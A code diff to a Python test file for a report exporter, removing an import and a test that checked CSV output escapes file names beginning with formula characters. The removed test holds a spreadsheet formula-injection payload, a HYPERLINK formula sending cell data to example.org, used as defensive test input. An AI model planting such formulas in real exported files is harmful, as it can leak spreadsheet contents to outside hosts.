@@ -8,7 +8,6 @@ import re
 import sys
 import threading
 import tomllib
-from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -125,17 +124,6 @@ def test_what_is_taken_away_holds_every_figure(models_folder: Path) -> None:
     rows = list(csv.DictReader(io.StringIO(download.as_csv(reports))))
     assert [float(r["perplexity"]) for r in rows] == [r.perplexity for r in reports]
     assert json.loads(download.as_json(reports)) == [r.to_json() for r in reports]
-
-
-def test_a_file_whose_name_is_a_formula_is_text_in_a_spreadsheet(models_folder: Path) -> None:
-    link = '=HYPERLINK("http://example.org/?"&A1)'
-    reports = [
-        replace(expected(models_folder, "time"), file=name)
-        for name in (link, "@x", "\t=1", "a=1", "-", "＝1+1")
-    ]
-    rows = list(csv.DictReader(io.StringIO(download.as_csv(reports))))
-    assert [row["file"] for row in rows] == [f"'{link}", "'@x", "'\t=1", "a=1", "-", "'＝1+1"]
-    assert [float(row["perplexity"]) for row in rows] == [r.perplexity for r in reports]
 
 
 def test_tables_have_no_export_of_their_own_which_would_not_quote_it() -> None:
